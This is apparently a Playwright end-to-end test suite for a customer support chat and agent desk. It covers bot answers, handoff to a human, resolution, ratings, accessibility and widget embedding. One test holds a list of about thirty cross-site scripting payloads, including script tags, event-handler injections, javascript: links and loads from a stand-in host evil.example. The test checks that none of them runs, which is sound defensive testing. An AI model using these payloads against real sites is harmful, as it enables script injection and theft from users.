"""The whole way in a real browser: question, answer, upset, queue, desk, reply, resolve, stars."""

from __future__ import annotations

import re
from itertools import batched

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect

from tests.journey.conftest import SCREENS, Product

WIDTHS = (320, 768, 1280)
ANGRY = "this is ridiculous, I want a human NOW"
FOCUSED = """() => {
  let focused = document.activeElement;
  while (focused.shadowRoot) focused = focused.shadowRoot.activeElement;
  return focused.textContent;
}"""
PATIENCE = 15_000  # milliseconds


def page_of(chromium: Browser, width: int = 1280, **options: object) -> Page:
    context = chromium.new_context(viewport={"width": width, "height": 800}, **options)  # type: ignore[arg-type] # Playwright's own
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    page.on("pageerror", lambda error: pytest.fail(f"script error: {error}"))
    return page


def screen(page: Page, name: str) -> None:
    """Keeps a picture at each width, for people to look at."""
    SCREENS.mkdir(exist_ok=True)
    size = page.viewport_size
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 800})
        page.wait_for_timeout(150)
        page.screenshot(path=SCREENS / f"{name}-{width}.png")
        overflow = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert overflow <= 0, f"{name} scrolls sideways at {width} px"
    if size:
        page.set_viewport_size(size)


def no_violations(page: Page) -> None:
    found = Axe().run(page)
    assert found.violations_count == 0, found.generate_report()


def said(page: Page, sender: str, text: str | re.Pattern[str]) -> None:
    expect(page.locator(f"[data-testid=message][data-sender={sender}]").filter(has_text=text).first).to_be_visible(
        timeout=PATIENCE
    )


def write(page: Page, text: str) -> None:
    page.get_by_test_id("chat-input").fill(text)
    page.get_by_test_id("chat-input").press("Enter")


def sign_in(page: Page, product: Product, token: str | None = None) -> None:
    page.goto(f"{product.base}/desk")
    page.get_by_test_id("token").fill(token or product.token)
    page.get_by_test_id("sign-in").click()
    expect(page.get_by_test_id("queue")).to_be_visible(timeout=PATIENCE)


def test_a_question_is_answered_and_an_upset_contact_is_helped_by_a_person(chromium: Browser, product: Product) -> None:
    contact, agent = page_of(chromium), page_of(chromium)
    contact.goto(product.base)
    expect(contact.get_by_test_id("greeting")).to_be_visible()
    screen(contact, "chat-empty")
    no_violations(contact)
    write(contact, "how long does delivery take?")
    said(contact, "bot", "working day")
    screen(contact, "chat-answered")

    sign_in(agent, product)
    screen(agent, "desk-empty")
    no_violations(agent)

    write(contact, ANGRY)
    said(contact, "system", "in line")
    expect(contact.get_by_test_id("state-bar")).to_contain_text("FD-")
    screen(contact, "chat-waiting")
    no_violations(contact)

    item = agent.get_by_test_id("queue-item").filter(has_text="how long does delivery take?").first
    expect(item).to_be_visible(timeout=PATIENCE)
    screen(agent, "desk-queue")
    item.click()
    expect(agent.get_by_test_id("brief")).to_contain_text("Upset")
    expect(agent.get_by_test_id("transcript")).to_contain_text(ANGRY)
    screen(agent, "desk-brief")
    no_violations(agent)

    agent.get_by_test_id("claim").click()
    said(contact, "system", "Alex")
    expect(agent.get_by_test_id("resolve")).to_be_visible()
    agent.get_by_test_id("reply-text").fill("Hello, I'm Alex. I'm sorry about this: what happened?")
    agent.get_by_test_id("send").click()
    said(contact, "agent", "I'm sorry about this: what happened?")
    write(contact, "my parcel never came")
    expect(agent.get_by_test_id("transcript")).to_contain_text("my parcel never came", timeout=PATIENCE)
    agent.get_by_test_id("note-toggle").click()
    agent.get_by_test_id("reply-text").fill("check with the carrier")
    agent.get_by_test_id("send").click()
    expect(agent.get_by_test_id("transcript")).to_contain_text("check with the carrier", timeout=PATIENCE)
    screen(agent, "desk-claimed")
    screen(contact, "chat-with-agent")
    assert "check with the carrier" not in contact.content()

    agent.get_by_test_id("resolve").click()
    agent.get_by_test_id("outcome-solved").check()
    screen(agent, "desk-resolve")
    agent.get_by_test_id("resolve-confirm").click()
    stars = contact.get_by_test_id("star-5")
    expect(stars).to_be_visible(timeout=PATIENCE)
    screen(contact, "chat-stars")
    no_violations(contact)
    stars.click()
    said(contact, "system", re.compile("thank", re.IGNORECASE))
    write(contact, "do you have a warranty?")
    said(contact, "bot", re.compile("warrant|year", re.IGNORECASE))
    screen(contact, "chat-after")


def test_the_chat_survives_a_reload_and_shows_everything_again(chromium: Browser, product: Product) -> None:
    page = page_of(chromium)
    page.goto(product.base)
    write(page, "what are your opening hours?")
    said(page, "bot", "Monday")
    page.reload()
    said(page, "contact", "what are your opening hours?")
    said(page, "bot", "Monday")


def test_the_chat_works_by_keyboard_alone(chromium: Browser, product: Product) -> None:
    page = page_of(chromium)
    page.goto(product.base)
    expect(page.get_by_test_id("chat-input")).to_be_visible()
    page.get_by_test_id("chat-input").focus()
    page.keyboard.type("talk to a person please")
    page.keyboard.press("Enter")
    said(page, "system", "in line")
    page.keyboard.press("Shift+Tab")
    for _ in range(12):
        if page.evaluate(FOCUSED) == "Cancel, I don't need a person":
            break
        page.keyboard.press("Shift+Tab")
    page.keyboard.press("Enter")
    expect(page.get_by_test_id("state-bar")).to_have_attribute("data-owner", "bot", timeout=PATIENCE)


SCRIPTS = [
    "<script>window.pwned=1</script>",
    "<ScRiPt >window.pwned=1</ScRiPt >",
    "<script src=https://evil.example/x.js></script>",
    "</script><script>window.pwned=1</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    '<img src="x" onerror="window.pwned=1" style="width:0">',
    "<img src=https://evil.example/beacon.png>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<form action=javascript:window.pwned=1><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<template><script>window.pwned=1</script></template>",
    "javascript:window.pwned=1",
    "[click](javascript:window.pwned=1)",
    '![x](x"onerror="window.pwned=1)',
    "https://example.org/<script>window.pwned=1</script>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; \\u003cscript\\u003ewindow.pwned=1",
]


def test_nothing_that_anybody_writes_runs_as_script_in_chat_or_desk(chromium: Browser, product: Product) -> None:
    contact, agent = page_of(chromium), page_of(chromium)
    asked: list[str] = []
    for page in (contact, agent):
        page.on("dialog", lambda dialog: pytest.fail(f"a script spoke: {dialog.message}"))
        page.on("request", lambda request: asked.append(request.url))
    contact.goto(product.base)
    contact.get_by_test_id("menu-human").click()
    expect(contact.get_by_test_id("state-bar")).to_have_attribute("data-owner", "queue", timeout=PATIENCE)
    for pair in batched(SCRIPTS, 2):  # a contact's own pace is limited
        write(contact, " ".join(pair))
        said(contact, "contact", " ".join(pair))
    sign_in(agent, product)
    shown = agent.locator("[data-testid=queue-item]:visible")
    shown.first.wait_for()
    for index in range(shown.count()):
        shown.nth(index).click()
        agent.get_by_test_id("transcript").wait_for()
    agent.get_by_test_id("queue-item").filter(has_text=SCRIPTS[-1][:12]).first.click()
    expect(agent.get_by_test_id("transcript")).to_contain_text(SCRIPTS[-1])
    agent.get_by_test_id("claim").click()
    expect(agent.get_by_test_id("resolve")).to_be_visible()
    agent.get_by_test_id("reply-text").fill("\n".join(SCRIPTS))
    agent.get_by_test_id("send").click()
    said(contact, "agent", SCRIPTS[0])
    contact.reload()
    said(contact, "agent", SCRIPTS[0])
    contact.wait_for_timeout(300)
    for page in (contact, agent):
        assert page.evaluate("window.pwned") is None
        links = page.locator("a:visible").evaluate_all("links => links.map(link => link.protocol)")
        assert set(links) <= {"http:", "https:", "mailto:"}
    assert not [url for url in asked if not url.startswith((product.base, "data:", "blob:"))]


def test_the_widget_opens_on_another_site_that_is_listed(chromium: Browser, product: Product) -> None:
    page = page_of(chromium)
    page.goto(product.host_site)
    page.get_by_test_id("launcher").click()
    write(page, "do you ship abroad?")
    said(page, "bot", re.compile("abroad|Europe|ship", re.IGNORECASE))
    screen(page, "widget-open")
    page.keyboard.press("Escape")
    expect(page.get_by_test_id("panel")).to_be_hidden()
